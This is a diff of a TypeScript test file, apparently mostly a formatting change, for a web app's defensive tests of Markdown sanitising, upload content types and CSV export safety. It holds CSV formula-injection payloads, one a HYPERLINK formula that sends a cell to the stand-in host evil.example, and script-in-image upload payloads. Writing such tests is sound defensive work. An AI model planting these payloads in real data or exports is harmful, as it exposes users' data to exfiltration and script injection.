@@ -27,7 +27,14 @@ const UNSAFE_MARKDOWN = [
 ];
 
 /** Formula payloads a spreadsheet would run; each carries a marker so that its cell can be found in any export. */
-const FORMULAS = ['=HYPERLINK("http://evil.example?x="&A1,"PIEGE")', '+PIEGE+1', '-2+PIEGE', '@SUM(PIEGE)', '\t=PIEGE', '\r=PIEGE'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example?x="&A1,"PIEGE")',
+  '+PIEGE+1',
+  '-2+PIEGE',
+  '@SUM(PIEGE)',
+  '\t=PIEGE',
+  '\r=PIEGE',
+];
 
 function unsafeHtml(html: string): string[] {
   const found: string[] = [];
@@ -47,16 +54,29 @@ describe('stored content', () => {
   afterAll(() => t.close());
 
   it.each(UNSAFE_MARKDOWN)('refuses unsafe Markdown on write, naming the field: %s', async (markdown) => {
-    const current = (await api(t, cast.owner, 'GET', `/projects/${records.projectId}`)).json() as { version: number };
-    const response = await api(t, cast.owner, 'PATCH', `/projects/${records.projectId}`, { description: markdown, version: current.version });
+    const current = (await api(t, cast.owner, 'GET', `/projects/${records.projectId}`)).json() as {
+      version: number;
+    };
+    const response = await api(t, cast.owner, 'PATCH', `/projects/${records.projectId}`, {
+      description: markdown,
+      version: current.version,
+    });
     expect(response.statusCode).toBe(400);
-    expect(Object.keys((response.json() as { error: { fields: object } }).error.fields)).toContain('description');
+    expect(Object.keys((response.json() as { error: { fields: object } }).error.fields)).toContain(
+      'description',
+    );
   });
 
   it('sanitises Markdown on render, even for content that reached the database another way (import, old data)', async () => {
-    await t.ctx.db.updateTable('projects').set({ description: UNSAFE_MARKDOWN.join('\n\n') }).where('id', '=', records.projectId).execute();
+    await t.ctx.db
+      .updateTable('projects')
+      .set({ description: UNSAFE_MARKDOWN.join('\n\n') })
+      .where('id', '=', records.projectId)
+      .execute();
     for (const who of [null, cast.owner]) {
-      const project = (await api(t, who, 'GET', `/projects/${records.projectId}`)).json() as { descriptionHtml: string };
+      const project = (await api(t, who, 'GET', `/projects/${records.projectId}`)).json() as {
+        descriptionHtml: string;
+      };
       expect(project.descriptionHtml.length).toBeGreaterThan(0);
       expect(unsafeHtml(project.descriptionHtml)).toEqual([]);
     }
@@ -72,7 +92,9 @@ describe('stored content', () => {
       expect(response.statusCode, file.url).toBe(200);
       expect(String(response.headers['content-type'])).toContain(file.type);
       expect(response.headers['x-content-type-options']).toBe('nosniff');
-      expect(String(response.headers['content-disposition']), file.url).toMatch(/^(attachment|inline);\s*filename/);
+      expect(String(response.headers['content-disposition']), file.url).toMatch(
+        /^(attachment|inline);\s*filename/,
+      );
     }
   });
 
@@ -81,7 +103,10 @@ describe('stored content', () => {
       ['image/png', '<html><script>alert(1)</script></html>'],
       ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
     ] as const) {
-      const before = await t.ctx.db.selectFrom('project_images').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow();
+      const before = await t.ctx.db
+        .selectFrom('project_images')
+        .select((eb) => eb.fn.countAll().as('n'))
+        .executeTakeFirstOrThrow();
       const response = await t.app.inject({
         method: 'POST',
         url: `/api/v1/projects/${records.projectId}/images?alt=x`,
@@ -90,19 +115,44 @@ describe('stored content', () => {
       });
       expect(response.statusCode).toBeGreaterThanOrEqual(400);
       expect(response.statusCode).toBeLessThan(500);
-      const after = await t.ctx.db.selectFrom('project_images').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow();
+      const after = await t.ctx.db
+        .selectFrom('project_images')
+        .select((eb) => eb.fn.countAll().as('n'))
+        .executeTakeFirstOrThrow();
       expect(Number(after.n)).toBe(Number(before.n));
     }
   });
 
   it('neutralises formulas in every CSV export of the route table', async () => {
     const [title, summary, itemTitle, displayName, sessionTitle, other] = FORMULAS;
-    await t.ctx.db.updateTable('projects').set({ title: title!, summary: summary! }).where('id', '=', records.projectId).execute();
-    await t.ctx.db.updateTable('plan_items').set({ title: itemTitle! }).where('plan_id', '=', records.planId).execute();
-    await t.ctx.db.updateTable('users').set({ display_name: displayName! }).where('id', '=', cast.editor.id).execute();
-    await t.ctx.db.updateTable('organisations').set({ name: other! }).where('id', '=', cast.organisationId).execute();
-    await t.ctx.db.updateTable('training_sessions').set({ title: sessionTitle! }).where('id', '=', records.sessionId).execute();
-    const csvRoutes = (await readRouteTable(t.app)).filter((r) => r.method === 'GET' && /\.csv$/.test(r.path));
+    await t.ctx.db
+      .updateTable('projects')
+      .set({ title: title!, summary: summary! })
+      .where('id', '=', records.projectId)
+      .execute();
+    await t.ctx.db
+      .updateTable('plan_items')
+      .set({ title: itemTitle! })
+      .where('plan_id', '=', records.planId)
+      .execute();
+    await t.ctx.db
+      .updateTable('users')
+      .set({ display_name: displayName! })
+      .where('id', '=', cast.editor.id)
+      .execute();
+    await t.ctx.db
+      .updateTable('organisations')
+      .set({ name: other! })
+      .where('id', '=', cast.organisationId)
+      .execute();
+    await t.ctx.db
+      .updateTable('training_sessions')
+      .set({ title: sessionTitle! })
+      .where('id', '=', records.sessionId)
+      .execute();
+    const csvRoutes = (await readRouteTable(t.app)).filter(
+      (r) => r.method === 'GET' && /\.csv$/.test(r.path),
+    );
     expect(csvRoutes.length).toBeGreaterThanOrEqual(4);
     const unsafe: string[] = [];
     let markedCells = 0;
@@ -114,7 +164,12 @@ describe('stored content', () => {
         unsafe.push(`${route.key} answered ${response.statusCode}`);
         continue;
       }
-      const rows = parse(response.body, { bom: true, delimiter: [';', ','], relax_column_count: true, relax_quotes: true }) as string[][];
+      const rows = parse(response.body, {
+        bom: true,
+        delimiter: [';', ','],
+        relax_column_count: true,
+        relax_quotes: true,
+      }) as string[][];
       for (const cell of rows.flat()) {
         if (!cell.includes('PIEGE')) continue;
         markedCells++;
